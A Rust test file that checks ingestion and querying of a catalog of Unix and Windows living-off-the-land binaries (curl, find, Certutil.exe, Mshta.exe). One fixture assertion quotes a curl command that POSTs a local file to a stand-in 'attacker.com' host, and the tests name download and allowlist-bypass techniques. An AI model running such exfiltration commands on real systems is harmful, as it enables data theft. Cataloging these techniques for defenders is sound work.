// Ingest fixture checkouts end to end and query the resulting catalog.
mod support;

use anyhow::Result;
use gtfodora::{
    Binary, IngestError, Platform, PlatformFilter, QueryEngine, QueryError, capability_details,
    has_capability, ingest,
};
use support::FixtureClone;

// Catalog order is deterministic: sorted Unix files, then sorted Windows files.
#[test]
fn ingests_both_sources_in_sorted_order() -> Result<()> {
    let fixture = FixtureClone::standard()?;
    let report = ingest(fixture.root())?;

    let names: Vec<_> = report.catalog.all().iter().map(Binary::name).collect();
    assert_eq!(names, vec!["curl", "find", "Certutil.exe", "Mshta.exe"]);
    assert_eq!(report.catalog.count(Platform::Unix), 2);
    assert_eq!(report.catalog.count(Platform::Windows), 2);
    assert!(report.warnings.is_empty(), "warnings: {:?}", report.warnings);
    Ok(())
}

// Unix examples are copied verbatim, including multi-line code blocks.
#[test]
fn unix_examples_survive_unchanged() -> Result<()> {
    let fixture = FixtureClone::standard()?;
    let report = ingest(fixture.root())?;
    let engine = QueryEngine::new(&report.catalog);

    let curl = engine
        .find_by_name(PlatformFilter::Unix, "curl")
        .expect("curl ingested");
    let upload = capability_details(curl, "upload").expect("upload entry");
    assert_eq!(
        upload.examples()[0].description,
        "Send local file with an HTTP POST request."
    );
    assert_eq!(
        upload.examples()[0].code,
        "URL=http://attacker.com/\nLFILE=file_to_send\ncurl -X POST -d @$LFILE $URL\n"
    );
    assert!(has_capability(curl, "filewrite"));
    assert!(!has_capability(curl, "libraryload"));
    Ok(())
}

// Windows categories fold case and aliases into one entry per capability.
#[test]
fn windows_categories_are_reconciled() -> Result<()> {
    let fixture = FixtureClone::standard()?;
    let report = ingest(fixture.root())?;
    let engine = QueryEngine::new(&report.catalog);

    let certutil = engine
        .find_by_name(PlatformFilter::Windows, "Certutil.exe")
        .expect("certutil ingested");
    let download = capability_details(certutil, "download").expect("download entry");
    assert_eq!(download.examples().len(), 2);
    assert!(download.examples()[0].code.contains("-urlcache"));
    assert!(download.examples()[1].code.contains("-verifyctl"));

    let mshta = engine
        .find_by_name(PlatformFilter::Windows, "Mshta.exe")
        .expect("mshta ingested");
    let names: Vec<_> = mshta
        .capability_names()
        .map(|name| name.as_str().to_string())
        .collect();
    assert_eq!(names, vec!["command", "awlbypass", "ads", "tamper"]);
    assert_eq!(
        capability_details(mshta, "command").map(|entry| entry.examples().len()),
        Some(2)
    );
    Ok(())
}

// Listing by capability spans platforms and validates before scanning.
#[test]
fn capability_listing_across_platforms() -> Result<()> {
    let fixture = FixtureClone::standard()?;
    let report = ingest(fixture.root())?;
    let engine = QueryEngine::new(&report.catalog);

    assert_eq!(
        engine.list_by_capability(PlatformFilter::Both, "download")?,
        vec!["curl", "Certutil.exe"]
    );
    assert_eq!(
        engine.list_by_capability(PlatformFilter::Unix, "sudo")?,
        vec!["find"]
    );
    assert_eq!(
        engine.list_by_capability(PlatformFilter::Windows, "tamper")?,
        vec!["Mshta.exe"]
    );
    assert_eq!(
        engine.list_by_capability(PlatformFilter::Windows, "dump")?,
        Vec::<&str>::new()
    );
    assert!(matches!(
        engine.list_by_capability(PlatformFilter::Unix, "tamper"),
        Err(QueryError::UnknownCapability { .. })
    ));
    Ok(())
}

// A broken record is kept as an empty binary and reported with its path.
#[test]
fn malformed_record_is_isolated() -> Result<()> {
    let fixture = FixtureClone::standard()?;
    let broken = fixture.windows("OSBinaries/Broken.yml", "Name: [Broken.exe\nCommands: 3\n")?;

    let report = ingest(fixture.root())?;
    assert_eq!(report.catalog.len(), 5);
    assert_eq!(report.warnings.len(), 1);
    assert_eq!(report.warnings[0].path, broken);
    assert_eq!(report.warnings[0].platform, Platform::Windows);

    let engine = QueryEngine::new(&report.catalog);
    let placeholder = engine
        .find_by_name(PlatformFilter::Windows, "Broken")
        .expect("placeholder binary");
    assert_eq!(placeholder.capabilities().count(), 0);
    Ok(())
}

// Only a catalog with no binaries at all aborts the run.
#[test]
fn empty_sources_are_fatal() -> Result<()> {
    let fixture = FixtureClone::empty()?;
    let err = ingest(fixture.root()).expect_err("nothing to ingest");
    assert!(matches!(err, IngestError::EmptyCatalog { .. }));

    fixture.windows("OSBinaries/Certutil.yml", support::CERTUTIL_YML)?;
    let report = ingest(fixture.root())?;
    assert_eq!(report.catalog.len(), 1);
    assert_eq!(report.warnings.len(), 1, "missing Unix source is a warning");
    Ok(())
}
